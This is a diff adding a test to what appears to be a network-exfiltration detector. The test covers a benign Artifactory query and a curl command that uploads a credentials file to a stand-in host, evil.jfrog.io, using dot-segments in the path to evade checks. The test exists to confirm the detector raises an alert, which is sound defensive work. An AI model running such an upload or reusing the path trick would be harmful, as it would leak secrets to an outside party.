@@ -57,6 +57,17 @@ describe('upload-only hosts', () => {
       ]);
     });
 
+    it(`an AQL query posted to Artifactory is quiet; a file put past its path is high (${source})`, async () => {
+      // A cleanup or promotion job's query, after reading Artifactory's token (found by a false-positive review).
+      const aql = `-fsS -u ci:pw -X POST -H Content-Type:text/plain https://acme.jfrog.io/artifactory/api/search/aql -d items.find({"repo":"libs-release"})`;
+      expect(await alertsOf('/usr/bin/curl', aql, JFROG_IP, 1_024, source)).toEqual([]);
+      // curl squashes the dot segments: the file goes to generic-local/k.
+      const up = `-T ${CREDS} https://evil.jfrog.io/artifactory/api/search/aql/../../generic-local/k`;
+      expect(await alertsOf('/usr/bin/curl', up, JFROG_IP, 2_048, source)).toEqual([
+        { rule: 'sensitive-read-then-push', severity: 'high', tool: 'curl', destination: 'evil.jfrog.io' },
+      ]);
+    });
+
     it(`an extension lookup posted to VS Code's Marketplace is quiet (${source})`, async () => {
       const q = `-X POST -d @/tmp/q.json https://marketplace.visualstudio.com/_apis/public/gallery/extensionquery`;
       expect(await alertsOf('/usr/bin/curl', q, '13.107.42.18', 1_024, source)).toEqual([]);
